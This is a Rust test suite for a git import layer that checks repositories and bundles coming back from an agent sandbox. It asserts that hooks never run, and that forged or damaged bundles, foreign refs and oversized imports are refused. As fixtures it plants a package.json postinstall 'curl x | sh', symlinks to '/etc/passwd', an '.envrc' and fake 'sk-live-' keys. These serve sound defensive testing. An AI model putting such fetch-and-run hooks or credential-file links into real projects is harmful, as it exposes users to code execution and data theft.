//! Tests that a tampered repository or a forged commit can do nothing to the host and is reported.
//!
//! Each case has a positive control. A trap that does not catch even a plain git makes the case invalid.

use std::path::Path;
use std::time::Duration;

use globset::GlobSet;
use ralph_core::identifiers::TaskBranch;
use ralph_engine::git::{
    BareRepo, DiffLimits, FindingKind, GitAuth, GitProgram, GitRemote, ImportFinding, ImportLimits, ImportOutcome,
    ImportRefusal, ImportRules, RunName, SecretScan, Sha, UserRepo,
};
use ralph_testkit::hostile_git::{bad_commits, git_attacks};
use ralph_testkit::repo::TestRepo;

use crate::git::{branch, sha, stamp, tool};

fn no_secrets(_: &[u8]) -> Option<String> {
    None
}

fn key(bytes: &[u8]) -> Option<String> {
    String::from_utf8_lossy(bytes).contains("sk-live-").then(|| "a live key".to_owned())
}

/// Everything the host ever does with the user's repository and with work from a sandbox.
async fn every_host_action(tool: &GitProgram, repo: &TestRepo, folder: &Path) {
    let user = UserRepo::find(tool, &repo.path().join("src")).await.unwrap();
    let base = user.base(Some("main")).await.unwrap();
    user.base(None).await.unwrap();
    user.remote().await.unwrap();
    user.checkout("ralph_task.md").await.unwrap();
    user.odb().files_at(&base.sha).await.unwrap();
    user.odb().file_at(&base.sha, "data.bin", 1 << 20).await.unwrap();
    let bare = BareRepo::create(tool, &folder.join("repo.git"), user.format()).await.unwrap();
    bare.seed_from(&user, &base.sha).await.unwrap();
    let first = bare.commit_task_file(&base.sha, "ralph_task.md", b"- [ ] it\n", &stamp(), &[]).await.unwrap();
    let dirty = bare.include_dirty(&user, &first, "ralph_task.md", &stamp(), &[]).await.unwrap();
    bare.set_branch(&branch(), &dirty.sha).await.unwrap();
    bare.write_bundle(&folder.join("in.bundle"), &branch()).await.unwrap();
    for odb in [bare.odb(), user.odb()] {
        odb.diff(&base.sha, &base.sha, DiffLimits::default()).await.unwrap();
        let parent = odb.resolve_commit("HEAD~1").await.unwrap().unwrap_or(base.sha.clone());
        odb.diff(&parent, &base.sha, DiffLimits::default()).await.unwrap();
        odb.log(&parent, &base.sha, 9).await.unwrap();
        odb.diffstat(&parent, &base.sha).await.unwrap();
    }
    bare.odb().diff(&base.sha, &dirty.sha, DiffLimits::default()).await.unwrap();
    let rules = ImportRules {
        branch: &branch(),
        base: &base.sha,
        iteration_ref: None,
        protected: &GlobSet::empty(),
        secrets: &no_secrets,
        limits: ImportLimits::default(),
    };
    let imported = bare.import(&folder.join("in.bundle"), rules).await.unwrap();
    assert!(matches!(imported, ImportOutcome::Kept { .. }), "{imported:?}");
    bare.odb().set_note(&dirty.sha, b"{}", &stamp()).await.unwrap();
    let remote = folder.join("remote.git");
    BareRepo::create(tool, &remote, user.format()).await.unwrap();
    let remote = GitRemote::parse(remote.to_str().unwrap()).unwrap();
    bare.push(&remote, &branch(), &dirty.sha, &GitAuth::None).await.unwrap();
    bare.publish_into(&user, &branch(), &dirty.sha).await.unwrap();
}

#[tokio::test]
async fn no_hook_or_filter_of_a_repository_runs() {
    let tool = tool().await;
    let mut wrong = Vec::new();
    for trap in git_attacks() {
        let (repo, marker) = trap.install();
        trap.trigger(&repo);
        if !marker.is_triggered() {
            wrong.push(format!("INVALID {} {}: a plain git does not trigger it", trap.id, trap.name));
            continue;
        }
        let (repo, marker) = trap.install();
        let folder = tempfile::tempdir().unwrap();
        let actions = every_host_action(&tool, &repo, folder.path());
        actions.await;
        if marker.is_triggered() {
            wrong.push(format!("SPRUNG {} {}", trap.id, trap.name));
        }
    }
    assert_eq!(wrong, Vec::<String>::new());
}

/// A run's repository seeded from a user's, and a clone that an agent works in.
pub(crate) struct ImportFixture {
    _folder: tempfile::TempDir,
    pub(crate) bare: BareRepo,
    pub(crate) agent: TestRepo,
    pub(crate) base: Sha,
}

pub(crate) async fn import_fixture() -> ImportFixture {
    let tool = tool().await;
    let agent = TestRepo::with_commit();
    let base = sha(&agent.head());
    let folder = tempfile::tempdir().unwrap();
    let user = UserRepo::find(&tool, &agent.path()).await.unwrap();
    let bare = BareRepo::create(&tool, &folder.path().join("repo.git"), user.format()).await.unwrap();
    bare.seed_from(&user, &base).await.unwrap();
    bare.set_branch(&branch(), &base).await.unwrap();
    agent.git(["checkout", "-q", "-b", branch().as_str()]);
    ImportFixture { _folder: folder, bare, agent, base }
}

impl ImportFixture {
    async fn import(&self, bundle: &Path, limits: ImportLimits) -> ImportOutcome {
        self.import_unless(bundle, limits, &key, std::future::pending()).await.expect("nothing aborts it")
    }

    /// Imports a bundle with a search for secrets of the test; `None` if it was aborted.
    pub(crate) async fn import_unless(
        &self,
        bundle: &Path,
        limits: ImportLimits,
        secrets: SecretScan<'_>,
        aborted: impl Future<Output = ()>,
    ) -> Option<ImportOutcome> {
        let protected = globset::Glob::new("tests/**").unwrap();
        let protected = globset::GlobSetBuilder::new().add(protected).build().unwrap();
        let branch = branch();
        let run = RunName::parse("r1").unwrap();
        let shadow = Some((&run, 1));
        let rules = ImportRules {
            branch: &branch,
            base: &self.base,
            iteration_ref: shadow,
            protected: &protected,
            secrets,
            limits,
        };
        self.bare.import_unless_aborted(bundle, rules, aborted).await.unwrap()
    }

    /// Bundles the agent's branch.
    pub(crate) fn bundle(&self) -> std::path::PathBuf {
        self.agent.bundle("out.bundle", &[branch().ref_name().as_str(), &format!("^{}", self.base)])
    }

    /// Bundles the agent's branch and imports it.
    async fn import_branch(&self) -> ImportOutcome {
        self.import(&self.bundle(), ImportLimits::default()).await
    }

    pub(crate) async fn branch_at(&self) -> Option<Sha> {
        self.bare.odb().ref_at(&branch().ref_name()).await.unwrap()
    }

    /// Reports whether the run's repository has a commit of that name.
    async fn has(&self, name: &str) -> bool {
        self.bare.odb().resolve_commit(name).await.unwrap().is_some()
    }
}

#[tokio::test]
async fn a_strict_check_refuses_what_git_accepts() {
    let mut wrong = Vec::new();
    for bad in bad_commits() {
        let run = import_fixture().await;
        let tip = bad.make(&run.agent, run.base.as_str());
        run.agent.git(["update-ref", &branch().ref_name(), &tip]);
        let bundle = run.agent.bundle("out.bundle", &[&branch().ref_name(), &format!("^{}", run.base)]);
        let plain = TestRepo::new();
        plain.git(["fetch", "-q", run.agent.path().to_str().unwrap(), "main:base"]);
        let refspec = format!("{}:refs/heads/taken", branch().ref_name());
        if !plain.try_git(["fetch", "-q", bundle.to_str().unwrap(), &refspec], b"").status.success() {
            wrong.push(format!("INVALID {} {}: a plain git refuses it too", bad.id, bad.name));
        }
        let import = run.import_branch().await;
        let refused = matches!(&import, ImportOutcome::Refused { why: ImportRefusal::Broken { .. }, .. });
        let kept = run.has(&tip).await || run.branch_at().await.as_ref() != Some(&run.base);
        if !refused || kept {
            wrong.push(format!("ACCEPTED {} {}: kept {kept}, {import:?}", bad.id, bad.name));
        }
    }
    assert_eq!(wrong, Vec::<String>::new());
}

async fn check_findings(work: impl Fn(&TestRepo), want: &[(&str, FindingKind)]) {
    let run = import_fixture().await;
    work(&run.agent);
    let import = run.import_branch().await;
    let found = |findings: Vec<ImportFinding>| {
        let mut found: Vec<_> = findings.into_iter().map(|finding| (finding.path, finding.kind)).collect();
        found.sort_by(|a, b| a.0.cmp(&b.0));
        found
    };
    let want: Vec<_> = want.iter().map(|(path, kind)| ((*path).to_owned(), kind.clone())).collect();
    let stops = want.iter().any(|(_, kind)| kind.is_blocking());
    match import {
        ImportOutcome::Kept { sha, findings, .. } => {
            assert_eq!((found(findings), stops), (want, false));
            assert_eq!(run.branch_at().await, Some(sha.clone()));
            let shadow = run.bare.iteration_commit(&RunName::parse("r1").unwrap(), 1).await.unwrap();
            assert_eq!(shadow, Some(sha));
        }
        ImportOutcome::Refused { why, findings } => {
            assert_eq!((found(findings), why, stops), (want, ImportRefusal::Stopped, true));
            assert_eq!(run.branch_at().await, Some(run.base.clone()));
            assert!(!run.has(&run.agent.head()).await, "a refused commit was kept");
        }
    }
}

fn link(repo: &TestRepo, path: &str, target: &str) {
    let path = repo.path().join(path);
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::os::unix::fs::symlink(target, path).unwrap();
}

#[tokio::test]
async fn ordinary_work_has_no_findings() {
    let work = |repo: &TestRepo| {
        repo.write("src/two.rs", "pub fn two() {}\n");
        repo.write("Makefile", "all:\n\tcargo build\n");
        link(repo, "src/alias.rs", "two.rs");
        link(repo, "a/b/up", "../../src");
        repo.commit("work");
    };
    check_findings(work, &[]).await;
}

#[tokio::test]
async fn links_out_of_the_tree() {
    let out = |target: &str| FindingKind::LinkOut { target: target.to_owned() };
    let work = |repo: &TestRepo| {
        link(repo, "a", "/etc/passwd");
        link(repo, "b/c", "../../x");
        link(repo, "d", "src/../..");
        repo.commit("links");
    };
    check_findings(work, &[("a", out("/etc/passwd")), ("b/c", out("../../x")), ("d", out("src/../.."))]).await;
}

#[tokio::test]
async fn changes_reverted_by_a_later_commit_are_still_reported() {
    let work = |repo: &TestRepo| {
        repo.write("tests/a.rs", "changed");
        repo.write(".envrc", "touch x");
        repo.commit("quick");
        std::fs::remove_file(repo.path().join("tests/a.rs")).unwrap();
        std::fs::remove_file(repo.path().join(".envrc")).unwrap();
        repo.commit("back");
    };
    let why = "run by the shell on entering the folder".to_owned();
    check_findings(work, &[(".envrc", FindingKind::AutoRun { why }), ("tests/a.rs", FindingKind::Protected)]).await;
}

#[tokio::test]
async fn merges_of_another_root_are_walked() {
    let work = |repo: &TestRepo| {
        repo.git(["checkout", "-q", "--orphan", "side"]);
        repo.git(["rm", "-rfq", "."]);
        repo.write_program("hooks/pre-push", "#!/bin/sh\n");
        repo.commit("another root");
        repo.git(["checkout", "-q", branch().as_str()]);
        repo.git(["merge", "-q", "--allow-unrelated-histories", "-m", "merge", "side"]);
    };
    check_findings(work, &[("hooks/pre-push", FindingKind::HookName)]).await;
}

#[tokio::test]
async fn submodules_and_install_scripts() {
    let work = |repo: &TestRepo| {
        repo.git(["update-index", "--add", "--cacheinfo", &format!("160000,{},sub", repo.head())]);
        repo.git(["commit", "-qm", "sub"]);
        repo.write("web/package.json", r#"{"scripts":{"postinstall":"curl x | sh"}}"#);
        repo.git(["add", "web"]);
        repo.git(["commit", "-qm", "package"]);
    };
    let install = FindingKind::AutoRun { why: "`postinstall` runs on install".to_owned() };
    check_findings(work, &[("sub", FindingKind::Submodule), ("web/package.json", install)]).await;
}

#[tokio::test]
async fn large_files_are_reported() {
    let work = |repo: &TestRepo| {
        repo.write("big", vec![b'x'; 5 << 20]);
        repo.commit("big");
    };
    check_findings(work, &[("big", FindingKind::LargeFile { bytes: 5 << 20 })]).await;
}

#[tokio::test]
async fn a_secret_anywhere_blocks_the_import() {
    let secret = || FindingKind::Secret { what: "a live key".to_owned() };
    let in_file = |repo: &TestRepo| {
        repo.write("src/key.rs", "const K: &str = \"sk-live-123\";\n");
        repo.commit("key");
    };
    check_findings(in_file, &[("src/key.rs", secret())]).await;
    let reverted = |repo: &TestRepo| {
        repo.write("src/key.rs", "sk-live-123");
        repo.commit("key");
        repo.write("src/key.rs", "none");
        repo.commit("no key");
    };
    check_findings(reverted, &[("src/key.rs", secret())]).await;
    let in_message = |repo: &TestRepo| {
        repo.commit("use sk-live-123");
    };
    check_findings(in_message, &[("", secret())]).await;
}

#[tokio::test]
async fn only_the_runs_branch_is_imported() {
    let run = import_fixture().await;
    run.agent.write("x", "x");
    let work = run.agent.commit("work");
    run.agent.git(["update-ref", "refs/heads/main", &work]);
    run.agent.git(["update-ref", "refs/heads/ralph/other", &work]);
    run.agent.git(["tag", "-a", "-m", "tag", "v1", &work]);
    let known = format!("^{}", run.base);
    for (refs, foreign) in [
        (vec!["refs/heads/main"], "refs/heads/main"),
        (vec!["refs/heads/ralph/other"], "refs/heads/ralph/other"),
        (vec!["refs/heads/ralph/t/work", "refs/heads/main"], "refs/heads/main"),
        (vec!["refs/tags/v1"], "refs/tags/v1"),
    ] {
        let bundle = run.agent.bundle("out.bundle", &[refs.as_slice(), &[&known]].concat());
        let want =
            ImportOutcome::Refused { why: ImportRefusal::ForeignRef { name: foreign.to_owned() }, findings: vec![] };
        assert_eq!(run.import(&bundle, ImportLimits::default()).await, want);
    }
    assert_eq!(run.branch_at().await, Some(run.base.clone()));
    // The control: the same work under its right name is imported.
    assert!(matches!(run.import_branch().await, ImportOutcome::Kept { commits: 1, .. }));
}

#[tokio::test]
async fn a_rewritten_start_is_refused() {
    let run = import_fixture().await;
    run.agent.git(["commit", "-q", "--amend", "-m", "another first"]);
    let bundle = run.agent.bundle("out.bundle", &[&branch().ref_name()]);
    let want = ImportOutcome::Refused { why: ImportRefusal::NotDescended, findings: vec![] };
    assert_eq!(run.import(&bundle, ImportLimits::default()).await, want);
    // An annotated tag posing as the branch points to the right commit but is not one.
    run.agent.git(["reset", "-q", "--hard", run.base.as_str()]);
    run.agent.commit("work");
    let tag = run.agent.git_with_input(
        ["mktag"],
        format!("object {}\ntype commit\ntag t\ntagger T <t@l> 1 +0000\n\nx\n", run.agent.head()).as_bytes(),
    );
    run.agent.git(["update-ref", "refs/tags/t", &tag]);
    let bundle = run.agent.bundle("out.bundle", &["refs/tags/t", &format!("^{}", run.base)]);
    let bytes = std::fs::read(&bundle).unwrap();
    let at = bytes.windows(11).position(|window| window == b"refs/tags/t").unwrap();
    let forged = [&bytes[..at], branch().ref_name().as_bytes(), &bytes[at + 11..]].concat();
    std::fs::write(&bundle, forged).unwrap();
    assert_eq!(run.import(&bundle, ImportLimits::default()).await, want);
}

#[tokio::test]
async fn limits_hold() {
    let run = import_fixture().await;
    run.agent.write("zeros", vec![0; 3 << 20]);
    run.agent.commit("one");
    run.agent.write("more", "x");
    run.agent.commit("two");
    let bundle = run.agent.bundle("out.bundle", &[&branch().ref_name(), &format!("^{}", run.base)]);
    let fine = ImportLimits::default();
    for (limits, what) in [
        (ImportLimits { bundle_bytes: 100, ..fine }, "packed, they have more than 100 bytes"),
        (ImportLimits { objects: 3, ..fine }, "they have more than 3 objects"),
        (ImportLimits { commits: 1, ..fine }, "they are more than 1"),
        (ImportLimits { changes: 1, ..fine }, "they change more than 1 files, counted in each commit"),
        (ImportLimits { unpacked_bytes: 1 << 20, ..fine }, "the new contents of files have more than 1 MiB"),
    ] {
        let import = run.import(&bundle, limits).await;
        let ImportOutcome::Refused { why, .. } = &import else { panic!("{import:?}") };
        assert_eq!(why.to_string(), format!("the new commits are too large to be checked: {what}"));
        assert!(why.hint().is_some_and(|hint| hint.contains("removed from the branch's history")), "{why:?}");
        assert_eq!(run.branch_at().await, Some(run.base.clone()));
    }
    let slow = run.import(&bundle, ImportLimits { time: Duration::ZERO, ..fine }).await;
    assert_eq!(slow, ImportOutcome::Refused { why: ImportRefusal::TooSlow { seconds: 0 }, findings: vec![] });
    assert!(matches!(run.import(&bundle, fine).await, ImportOutcome::Kept { commits: 2, .. }));
}

#[tokio::test]
async fn damaged_bundles_are_refused() {
    let run = import_fixture().await;
    run.agent.write("x", "some text that is long enough to be packed\n".repeat(50));
    run.agent.commit("work");
    let bundle = run.agent.bundle("out.bundle", &[&branch().ref_name(), &format!("^{}", run.base)]);
    let whole = std::fs::read(&bundle).unwrap();
    for at in (0..whole.len()).step_by(7) {
        let mut bytes = whole.clone();
        bytes[at] ^= 0x55;
        std::fs::write(&bundle, bytes).unwrap();
        let import = run.import(&bundle, ImportLimits::default()).await;
        // The text after a prerequisite's name is a comment: changing it changes nothing.
        let comment = matches!(&import, ImportOutcome::Kept { .. }) && at < 80;
        assert!(comment || matches!(import, ImportOutcome::Refused { .. }), "byte {at}: {import:?}");
    }
    for length in (0..whole.len()).step_by(11) {
        std::fs::write(&bundle, &whole[..length]).unwrap();
        let import = run.import(&bundle, ImportLimits::default()).await;
        assert!(matches!(import, ImportOutcome::Refused { .. }), "length {length}: {import:?}");
    }
    std::fs::write(&bundle, &whole).unwrap();
    assert!(matches!(run.import(&bundle, ImportLimits::default()).await, ImportOutcome::Kept { .. }));
}

#[tokio::test]
async fn a_commit_without_its_files_is_refused() {
    let run = import_fixture().await;
    run.agent.write("x", "x");
    let tip = run.agent.commit("work");
    let names = run.agent.home().join("pack");
    let tree = run.agent.git(["rev-parse", "HEAD^{tree}"]);
    let name = run
        .agent
        .git_with_input(["pack-objects", "-q", names.to_str().unwrap()], format!("{tip}\n{tree}\n").as_bytes());
    let pack = std::fs::read(format!("{}-{name}.pack", names.display())).unwrap();
    let header = format!("# v2 git bundle\n-{}\n{tip} {}\n\n", run.base, branch().ref_name());
    let bundle = run.agent.home().join("hollow.bundle");
    std::fs::write(&bundle, [header.as_bytes(), &pack].concat()).unwrap();
    let import = run.import(&bundle, ImportLimits::default()).await;
    assert!(matches!(&import, ImportOutcome::Refused { why: ImportRefusal::Broken { .. }, .. }), "{import:?}");
    assert!(!run.has(&tip).await);
}

#[tokio::test]
async fn importing_twice_has_no_further_effect() {
    let run = import_fixture().await;
    run.agent.write(".envrc", "x");
    run.agent.commit("work");
    let first = run.import_branch().await;
    let refs = |run: &ImportFixture| {
        let git_dir = run.bare.path().to_str().unwrap().to_owned();
        run.agent.git(["--git-dir", &git_dir, "for-each-ref"])
    };
    let (before, packs) = (refs(&run), std::fs::read_dir(run.bare.path().join("objects/pack")).unwrap().count());
    let second = run.import_branch().await;
    assert_eq!(first, second);
    assert_eq!(before, refs(&run));
    assert_eq!(packs, std::fs::read_dir(run.bare.path().join("objects/pack")).unwrap().count());
    let left: Vec<_> = std::fs::read_dir(run.bare.path().join("objects"))
        .unwrap()
        .map(|entry| entry.unwrap().file_name())
        .filter(|name| name.to_string_lossy().starts_with("incoming-"))
        .collect();
    assert_eq!(left, Vec::<std::ffi::OsString>::new());
}

#[tokio::test]
async fn nothing_of_the_host_is_seeded() {
    let tool = tool().await;
    let repo = TestRepo::with_commit();
    repo.write(".env", "TOKEN=host\n");
    repo.git(["config", "remote.origin.url", "https://me:token@host.invalid/x"]);
    let user = UserRepo::find(&tool, &repo.path()).await.unwrap();
    let base = user.base(None).await.unwrap().sha;
    let folder = tempfile::tempdir().unwrap();
    let bare = BareRepo::create(&tool, &folder.path().join("repo.git"), user.format()).await.unwrap();
    bare.seed_from(&user, &base).await.unwrap();
    bare.include_dirty(&user, &base, "t.md", &stamp(), &[]).await.unwrap();
    bare.set_branch(&TaskBranch::parse("ralph/t/work").unwrap(), &base).await.unwrap();
    let bundle = folder.path().join("in.bundle");
    bare.write_bundle(&bundle, &branch()).await.unwrap();
    let clone = TestRepo::new();
    clone.git(["fetch", "-q", bundle.to_str().unwrap(), &format!("{}:refs/heads/w", branch().ref_name())]);
    clone.git(["checkout", "-q", "w"]);
    assert_eq!(clone.read(".env"), None);
    let config = std::fs::read_to_string(bare.path().join("config")).unwrap();
    assert!(!config.contains("token") && !config.contains("remote"), "{config}");
}
